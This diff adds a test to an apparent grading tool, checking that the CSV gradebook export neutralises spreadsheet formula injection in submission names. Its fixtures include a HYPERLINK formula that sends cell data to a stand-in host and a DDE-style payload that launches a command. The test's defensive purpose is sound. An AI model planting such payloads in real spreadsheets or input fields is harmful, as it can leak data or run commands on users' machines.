@@ -338,3 +338,23 @@ describe("a batch that grades every submission", () => {
     expect(existsSync(path.join(ROOT, "dist", "results"))).toBe(false);
   });
 });
+
+describe("grades.csv opened in a spreadsheet", () => {
+  it("a submission named like a formula stays text (CSV injection); scores stay numbers", async () => {
+    const { gradebook } = await import("../kernel/grader/batch.js");
+    const results = (score: number) => ({ submission: "", source: "", score, max_score: 6, finished: true, tests: [{ grade_id: "t1", score }], restored: [], reinserted: [], stripped: [], kernel_restarts: 0 });
+    const rows = [
+      { name: '=HYPERLINK("http://x.example/?"&A1,"open")', results: results(6), status: "ok" as const, seconds: 1 },
+      { name: "+cmd|' /C calc'!A0", results: results(0), status: "ok" as const, seconds: 1 },
+      { name: "@SUM(1+1)", results: results(2), status: "ok" as const, seconds: 1 },
+      { name: "-2+3", results: results(4), status: "ok" as const, seconds: 1 },
+      { name: "alice", results: results(6), status: "ok" as const, seconds: 1 },
+    ];
+    const csv = parseCsv(gradebook(rows as never, ["t1"]));
+    const byName = Object.fromEntries(csv.slice(1).map((r) => [r[0], r]));
+    expect(Object.keys(byName).sort()).toEqual(["'+cmd|' /C calc'!A0", "'-2+3", "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "'@SUM(1+1)", "alice"]);
+    // No field but the apostrophe-led ones starts like a formula; the numbers are untouched.
+    for (const r of csv) for (const f of r) expect(f, f).not.toMatch(/^[=+\-@\t]/);
+    expect(byName["alice"]!.slice(1, 4)).toEqual(["6", "6", "6"]);
+  });
+});
